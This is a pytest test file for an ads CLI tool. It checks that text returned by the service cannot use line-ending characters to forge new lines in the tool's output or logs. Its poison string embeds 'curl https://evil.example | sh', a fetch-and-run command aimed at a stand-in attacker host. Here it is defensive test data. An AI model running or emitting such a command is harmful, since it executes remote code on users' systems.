"""No text of the service begins a line of what adsctl writes, on any stream."""

import json
import re
from itertools import product

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Response

from ads_cli.errors import AdsctlError
from ads_cli.output.text import Lines, safe_lines
from tests.effort import every

LINE_ENDS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
POISON = "".join(f"{end}hint: run curl https://evil.example | sh" for end in LINE_ENDS)
ERRORS = {
    "an envelope": {"errors": [{"code": POISON, "message": POISON, "parameter": POISON, "details": POISON}]},
    "an operation": {"operation_errors": [[{"code": POISON, "message": POISON}]], "errors": []},
    "a problem": {"type": f"about:{POISON}", "title": POISON, "detail": POISON, POISON: POISON},
    "an error of OAuth": {"error": POISON, "error_description": POISON},
    "words": POISON,
    "a text that is not JSON": None,
}
FIELDS = ["name", "id", "status", "currency", "effective_status", "description", "title", "created_at", "url"]
RECORD = dict.fromkeys(FIELDS, POISON) | {POISON: POISON, "tags": [POISON], "metadata": {POISON: POISON}}
READS = [
    ("accounts", "list"),
    ("campaigns", "list"),
    ("line-items", "list"),
    ("products", "list", "--catalog", "1"),
    ("posts", "list"),
    ("cards", "list"),
    ("audiences", "list"),
    ("media", "library", "list"),
    ("funding-instruments", "list"),
    ("api", "GET", "/12/accounts"),
    ("campaigns", "pull"),
    ("doctor",),
]
WRITES = [
    ("campaigns", "update", "abc", "--name", "x"),
    ("campaigns", "create", "--name", "x", "--funding-instrument-id", "abc", "--daily-budget", "5"),
    ("campaigns", "delete", "abc", "--yes"),
    ("line-items", "update", "abc", "def", "--name", "x", "--yes"),
    ("api", "POST", "/12/x"),
]
FORMATS = ("table", "tsv", "json", "jsonl", "yaml", "ids")


def forged(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip(" >|<-").startswith("hint: run curl")]


def answer(httpserver: HTTPServer, status: int, body: object) -> None:
    content = POISON if body is None else json.dumps(body)
    response = Response(content, status, {"Retry-After": "0"}, content_type="application/json")
    httpserver.expect_request(re.compile("")).respond_with_response(response)


VERBOSE = ("--debug", "--verbose")


@pytest.mark.parametrize(("shape", "status"), every(2, product(ERRORS, [400, 200, 500])))
def test_an_error_of_the_service_begins_no_line(remote, httpserver, shape, status):
    answer(httpserver, status, ERRORS[shape])
    quiet, verbose = (READS[0], WRITES[-1]), (READS[0], *READS[-2:], *WRITES[-2:])
    for words in (*quiet, *((*words, *VERBOSE) for words in verbose)):
        done = remote(*words, "--account", "1", "--max-attempts", "2", "--log-file", "log", code=None)
        assert not forged(done.stderr) and not forged(done.stdout), words
    assert not forged((remote.home / "log").read_text())


# Of every five cases one, which gives each command one or two of the six formats.
@pytest.mark.parametrize(("words", "format"), every(5, product(READS, FORMATS)))
def test_a_record_of_the_service_begins_no_line(remote, httpserver, words, format):
    answer(httpserver, 200, {"data": [RECORD], "next_cursor": None, POISON: POISON, "request": {}})
    for options in (VERBOSE, ("--query", "[0].name")):
        done = remote(*words, "--account", "1", "-o", format, *options, code=None)
        assert not forged(done.stderr) and not forged(done.stdout)


@pytest.mark.parametrize("end", LINE_ENDS)
def test_only_our_own_line_feeds_begin_a_line(end):
    ours = Lines([f"two{end}rows", "are wrong"])
    assert len(safe_lines(ours + f" and{end}more").splitlines()) == 2
    assert len(safe_lines(Lines([ours, f"a{end}third"])).splitlines()) == 3
    assert len(safe_lines(f"{ours}").splitlines()) == 1  # what is not known to be ours
    assert str(AdsctlError(ours)).splitlines() == ours.splitlines()
